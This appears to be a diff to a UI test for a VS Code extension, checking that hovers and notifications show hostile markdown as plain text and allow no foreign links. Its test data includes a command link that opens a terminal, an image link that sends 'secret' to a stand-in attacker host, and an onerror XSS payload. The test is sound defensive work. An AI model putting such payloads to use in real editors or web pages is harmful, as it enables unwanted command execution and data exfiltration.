@@ -1,7 +1,7 @@
 // The UI test: behaves as a user. Packages the VSIX, installs it into code-server, opens a workspace with a prompt
 // file, selects the prompt, runs the command from the palette by its title, then reads what the workbench shows.
 import { sleep } from './editor.mjs';
-import { checker, decorationColours, hoverText, openWorkbench, quickOpen, runCommand, screenshot, selectLine, startReplay, waitForText } from './workbench.mjs';
+import { checker, decorationColours, hoverLinks, hoverText, openWorkbench, OWN_COMMAND_LINK, quickOpen, runCommand, screenshot, selectLine, startReplay, waitForText } from './workbench.mjs';
 
 const PROMPTS = [
   ['What is 4+4?', 'azure-openai-chat-stream-top3-llamastack', '4 + 4 = 8'],
@@ -75,8 +75,10 @@ export async function runUi({ codeServer, runDir, log }) {
       const hostile = '[x](command:workbench.action.terminal.new)';
       const text = await hoverText(page, `Click ${hostile} now`, 10);
       if (!text.includes(hostile)) throw new Error(`hover lacks the literal token: ${text.slice(0, 300)}`);
-      const links = await page.evaluate(() => [...document.querySelectorAll('.monaco-hover a')].map((link) => link.getAttribute('href') ?? link.getAttribute('data-href') ?? link.textContent));
-      if (links.some((link) => /command:|attacker/.test(link ?? ''))) throw new Error(`the hover has links: ${links.join(', ')}`);
+      const links = await hoverLinks(page);
+      // Our own action links (Inspect, and those the endpoint allows) are the only ones allowed.
+      const foreign = links.filter((link) => !OWN_COMMAND_LINK.test(link));
+      if (foreign.length > 0) throw new Error(`the hover has links that are not ours: ${foreign.join(', ')}`);
       const images = await page.evaluate(() => document.querySelectorAll('.monaco-hover img, .monaco-hover .codicon-alert').length);
       if (images > 0) throw new Error('the hover rendered an image or an icon');
       for (const literal of ['␣![](https://attacker.example/?q=secret)', '␣<img␣src=x␣onerror=alert(1)>', '␣$(alert)', '␣``', '␣|', '␣&lt;', '<|endoftext|>', '▁the', '⟨U+202E⟩evil']) {
@@ -103,7 +105,7 @@ export async function runUi({ codeServer, runDir, log }) {
       if (hover.codeCells !== HOSTILE_TABLE.length) throw new Error(`${hover.codeCells} token cells hold exactly one code span, not ${HOSTILE_TABLE.length}`);
       if (hover.linksAndImages > 0) throw new Error(`the hover has ${hover.linksAndImages} link(s) or image(s)`);
     });
-    await page.screenshot({ path: path.join(artifacts, 'hover-table.png') });
+    await screenshot(page, 'hover-table.png');
 
     await check('a server\'s command link in its 401 message shows as text in the notification, not as a link', async () => {
       await page.mouse.move(5, 600);
@@ -126,7 +128,7 @@ export async function runUi({ codeServer, runDir, log }) {
         .some((element) => element.textContent.includes('waiting for the first token')), null, { timeout: 10_000 }).catch(() => undefined);
       await sleep(800);
     });
-    await page.screenshot({ path: path.join(artifacts, 'notification-link.png') });
+    await screenshot(page, 'notification-link.png');
     await runCommand(page, 'Notifications: Clear All Notifications');
 
     await check('the colours are there in a split view of the same document', async () => {
